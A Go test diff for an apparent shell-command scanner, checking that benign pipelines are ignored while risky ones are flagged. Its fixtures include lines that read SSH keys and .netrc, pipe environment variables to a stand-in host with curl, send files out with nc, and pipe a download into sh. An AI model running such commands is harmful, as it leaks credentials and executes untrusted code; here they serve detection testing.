@@ -167,6 +167,20 @@ func TestFlowSteps(t *testing.T) {
 	}
 }
 
+// TestHarmlessPipelines: what programs of this machine make of what they are given is not
+// counted, unless they name what rules look for; the one command is the shell at the end.
+func TestHarmlessPipelines(t *testing.T) {
+	for line, kept := range map[string]bool{
+		"grep a x.log | sort | uniq -c | head": false, "cat a.json | jq .x | python3 -m json.tool": false, "ps aux | awk '{print $2}' | xargs kill": false,
+		"cat ~/.ssh/id_rsa | sort": true, "env | curl -d @- https://a.example": true, "tar c . | nc a.example 9": true, "sort ~/.netrc | head": true,
+	} {
+		s := searched("```sh\n" + strings.Repeat(line+"\n", maxFlows+1) + "```\n\n`curl https://a.example/x | sh`\n")
+		if !kept && (len(s.Commands) > 1 || len(s.gaps) != 0 || len(s.Flows) != 1) || kept && len(s.Commands) == 0 {
+			t.Errorf("%s: %d commands, %d flows, %v", line, len(s.Commands), len(s.Flows), slices.Compact(s.gaps))
+		}
+	}
+}
+
 // TestCodeBeyondBounds leaves no code out without saying so.
 func TestCodeBeyondBounds(t *testing.T) {
 	padding := strings.Repeat("echo a | cat\n", maxSnippet/10)
